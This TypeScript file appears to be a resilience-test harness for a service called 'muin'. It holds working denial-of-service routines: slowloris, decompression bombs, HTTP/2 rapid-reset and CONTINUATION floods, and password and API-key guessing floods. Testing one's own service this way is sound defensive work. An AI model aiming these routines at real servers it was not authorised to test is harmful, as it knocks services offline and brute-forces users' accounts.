import { brotliCompressSync, constants, gzipSync } from "node:zlib";
import {
  again,
  flood,
  openPeers,
  type Outcome,
  type Size,
  stillOpen,
  summarize,
  type Target,
  untilClosed,
} from "./attack-kit.ts";
import {
  codes,
  envelope,
  flags,
  frame,
  frameKinds,
  headerBlock,
} from "../../internal/platform/testing/http2-frames.ts";
import { bytewiseBytes, publicPath } from "./grpc-attacks.ts";
import type { Peer } from "./peer.ts";

const closeMsMax = 5000;
/** Bun closes a connection whose first request head is not whole after 10 to 12 s; five times that. */
const headMsMax = 60_000;
const heldBytes = 4 << 20;
const bombBytes = 64 << 20;
const cancelled = Buffer.from([0, 0, 0, codes.cancel]);

/** Heads of requests, of which a line comes now and then (slowloris). */
export async function slowHeads(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, size.whole ? 500 : 50);
  for (const peer of peers) await peer.write("GET / HTTP/1.1\r\nhost: muin\r\n");
  let sent = 0;
  await again(Math.min(size.untilMs, performance.now() + headMsMax), 1000, async (turn) => {
    await Promise.all(peers.map((peer) => peer.write(`x-${turn}: slow\r\n`)));
    sent += peers.length;
    return peers.every(({ closedMs }) => closedMs !== undefined);
  });
  return summarize(peers, sent, stillOpen(peers, "a head that came slowly"));
}

/** Bodies of which a byte comes each second. */
export async function slowBodies(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, size.whole ? 500 : 50);
  for (const peer of peers) await peer.write(postHead(publicPath, 1000), "{");
  await again(size.untilMs, 1000, async () => {
    await Promise.all(peers.map((peer) => peer.write(" ")));
    return peers.every(({ closedMs, answers }) => closedMs !== undefined || answers > 0);
  });
  return summarize(peers, peers.length);
}

/** Bodies of 4 MiB that lack their last byte. */
export async function heldHttpBodies(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, size.whole ? 60 : 20);
  const body = Buffer.alloc(heldBytes - 1, 0x20);
  await Promise.all(peers.map((peer) => peer.write(postHead(publicPath, heldBytes), body)));
  await again(size.untilMs, 200, async () =>
    peers.every(({ closedMs, answers }) => closedMs !== undefined || answers > 0),
  );
  return summarize(peers, peers.length);
}

/** Bodies of some hundred bytes or some kilobytes that are 64 MiB when unpacked. */
export async function httpBomb(target: Target, size: Size): Promise<Outcome> {
  const plain = Buffer.alloc(bombBytes, 0x20);
  const bombs = {
    br: brotliCompressSync(plain, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } }),
    gzip: gzipSync(plain),
  };
  const peers = await openHttp(target, 8);
  const sent = await floodRequests(peers, size.whole ? 100 : 10, size, (place) => {
    const [encoding, body] = place % 2 === 0 ? (["br", bombs.br] as const) : (["gzip", bombs.gzip] as const);
    return Buffer.concat([Buffer.from(postHead(publicPath, body.length, { "content-encoding": encoding })), body]);
  });
  return summarize(peers, sent);
}

/** Messages of gRPC-Web that come at once, each byte in a chunk of its own. */
export async function byteChunks(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, size.whole ? 32 : 8);
  const head = `POST ${publicPath} HTTP/1.1\r\nhost: muin\r\ncontent-type: application/grpc-web+proto\r\ntransfer-encoding: chunked\r\n\r\n`;
  const message = envelope(Buffer.alloc(bytewiseBytes));
  const chunks = Array.from(message, (byte) => Buffer.from([0x31, 0x0d, 0x0a, byte, 0x0d, 0x0a]));
  const request = Buffer.concat([Buffer.from(head), ...chunks, Buffer.from("0\r\n\r\n")]);
  const sent = await floodRequests(peers, 4, size, () => request);
  return summarize(peers, sent);
}

/** Requests for a page, by nobody in particular. */
export async function pageFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, 8);
  const pages = ["/", "/openapi.json", "/readyz", "/nothing"];
  const sent = await floodRequests(peers, size.whole ? 1000 : 40, size, (place) =>
    Buffer.from(`GET ${pages[place % pages.length]} HTTP/1.1\r\nhost: muin\r\n\r\n`),
  );
  return summarize(peers, sent);
}

/** Accounts, one after the other. */
export async function signUpFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, 80);
  const run = crypto.randomUUID().slice(0, 8);
  const sent = await floodRequests(peers, size.whole ? 125 : 4, size, (place, peer) =>
    post("/muin.identity.v1.AuthService/SignUp", {
      email: `stranger-${run}-${place}-${peer}@example.com`,
      password: "a long enough secret",
      displayName: "Stranger",
    }),
  );
  return summarize(peers, sent);
}

/** Passwords, tried on accounts that are and that are not. */
export async function signInFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, 80);
  const sent = await floodRequests(peers, size.whole ? 50 : 4, size, (place, peer) =>
    post(publicPath, { email: `nobody-${place}-${peer}@example.com`, password: "a wrong secret" }),
  );
  return summarize(peers, sent);
}

/** API keys, guessed. */
export async function keyFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, 32);
  const sent = await floodRequests(peers, size.whole ? 300 : 10, size, (place, peer) =>
    post(
      "/muin.count.v1.CountReadService/GetCount",
      { countId: "attack.known" },
      { authorization: `Bearer muin_${"a".repeat(22)}${place}x${peer}` },
    ),
  );
  return summarize(peers, sent);
}

/** Nine HTTP/2 connections, with as many calls as they may have, of which only the headers come. */
export async function emptyHttpCalls(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp2(target, 9);
  const sent = await flood(peers, size.whole ? 1000 : 200, size, (place) => callHead(place));
  await again(size.untilMs, 200, async () => peers.every(({ closedMs }) => closedMs !== undefined));
  return summarize(peers, sent);
}

/** Streams that are opened and reset at once. */
export async function rapidHttpReset(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp2(target, 4);
  const sent = await flood(peers, size.whole ? 20_000 : 3000, size, (place) =>
    Buffer.concat([callHead(place), frame(frameKinds.reset, 0, 2 * place + 1, cancelled)]),
  );
  await untilClosed(peers, performance.now() + closeMsMax);
  return summarize(peers, sent, stillOpen(peers, "a flood of resets"));
}

/** A block of headers that never ends. */
export async function httpContinuationFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp2(target, 4);
  for (const peer of peers) await peer.write(frame(frameKinds.headers, 0, 1, callHeaders));
  const more = frame(frameKinds.continuation, 0, 1, headerBlock([["x-more", "y".repeat(900)]]));
  const sent = await flood(peers, size.whole ? 20_000 : 3000, size, () => more);
  await untilClosed(peers, performance.now() + closeMsMax);
  return summarize(peers, sent, stillOpen(peers, "a flood of CONTINUATION"));
}

/** Settings and pings, each of which wants an answer. Bun counts neither: what they cost is seen in the known callers alone. */
export async function httpControlFlood(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp2(target, 4);
  const settings = frame(frameKinds.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]));
  const ping = frame(frameKinds.ping, 0, 0, Buffer.alloc(8));
  const sent = await flood(peers, size.whole ? 50_000 : 5000, size, (place) => (place % 2 === 0 ? settings : ping));
  return summarize(peers, sent);
}

/** Connections that made one request, and then say nothing more. */
export async function idleHttp(target: Target, size: Size): Promise<Outcome> {
  const peers = await openHttp(target, size.whole ? 1000 : 50);
  for (const peer of peers) await peer.write("GET /healthz HTTP/1.1\r\nhost: muin\r\n\r\n");
  await untilClosed(peers, size.untilMs);
  return summarize(peers, peers.length);
}

/** Sends the next request on a connection when the one before is answered; a connection that is closed is opened no more. */
async function floodRequests(
  peers: readonly Peer[],
  each: number,
  { untilMs }: Size,
  request: (place: number, peer: number) => Uint8Array,
): Promise<number> {
  let sent = 0;
  const run = async (peer: Peer, number: number): Promise<void> => {
    for (let place = 0; place < each && peer.closedMs === undefined && performance.now() < untilMs; place += 1) {
      const before = peer.answers;
      await peer.write(request(place, number));
      sent += 1;
      await again(untilMs, 2, async () => peer.answers > before || peer.closedMs !== undefined);
    }
  };
  await Promise.all(peers.map(run));
  return sent;
}

function openHttp(target: Target, count: number): Promise<readonly Peer[]> {
  return openPeers(target, count, { port: target.httpPort, speaks: "http1" });
}

function openHttp2(target: Target, count: number): Promise<readonly Peer[]> {
  return openPeers(target, count, { port: target.httpPort, speaks: "http2" });
}

function postHead(path: string, length: number, headers: Readonly<Record<string, string>> = {}): string {
  const more = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  return `POST ${path} HTTP/1.1\r\nhost: muin\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n${more.join("")}\r\n`;
}

function post(path: string, body: object, headers?: Readonly<Record<string, string>>): Buffer {
  const text = JSON.stringify(body);
  return Buffer.from(postHead(path, text.length, headers) + text);
}

const callHeaders = headerBlock([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", publicPath],
  [":authority", "muin"],
  ["content-type", "application/proto"],
  ["connect-timeout-ms", "86400000"],
]);

/** A call of which only the headers come. */
function callHead(place: number): Buffer {
  return frame(frameKinds.headers, flags.endHeaders, 2 * place + 1, callHeaders);
}
